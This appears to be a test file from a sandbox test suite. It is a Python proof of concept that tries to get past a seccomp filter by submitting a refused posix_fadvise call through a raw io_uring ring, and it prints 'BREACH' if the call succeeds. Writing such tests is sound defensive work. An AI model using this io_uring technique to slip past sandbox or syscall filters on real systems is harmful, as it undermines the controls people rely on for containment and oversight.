# attack: a ring, by which the kernel does past every filter what the filter refuses: here posix_fadvise
# guards: seccomp/io_uring
# breaks: seccomp/io_uring
# expect: AC
# stdout: held
import ctypes
import errno
import mmap
import os
import struct

libc = ctypes.CDLL(None, use_errno=True)
SETUP, ENTER, GETEVENTS, FADVISE, DONTNEED = 425, 426, 1, 24, 4
parameters = ctypes.create_string_buffer(120)
ring = libc.syscall(SETUP, 8, parameters)
error = ctypes.get_errno()
if ring == -1:
    print("held" if error == errno.ENOSYS else f"BREACH unexpected errno {error}")
    raise SystemExit
submitted, completed = (struct.unpack_from("8I", parameters, offset) for offset in (40, 80))
memory = mmap.mmap(ring, 4096)
entries = mmap.mmap(ring, 4096, offset=0x10000000)
file = os.open(os.__file__, os.O_RDONLY)
try:
    os.posix_fadvise(file, 0, 0, DONTNEED)
    refused = False
except OSError:
    refused = True
# operation, flags, priority, descriptor, offset, address, length, advice, mark
struct.pack_into("BBHiQQIIQ", entries, 0, FADVISE, 0, 0, file, 0, 0, 0, DONTNEED, 42)
struct.pack_into("I", memory, submitted[6], 0)
struct.pack_into("I", memory, submitted[1], 1)
result = libc.syscall(ENTER, ring, 1, 1, GETEVENTS, None, ctypes.c_ulong(0))
mark, answer = struct.unpack_from("Qi", memory, completed[5])
did = result == 1 and (mark, answer) == (42, 0)
print("BREACH the ring did what the filter refuses" if did and refused else f"held: {result}, {mark}, {answer}, {refused}")
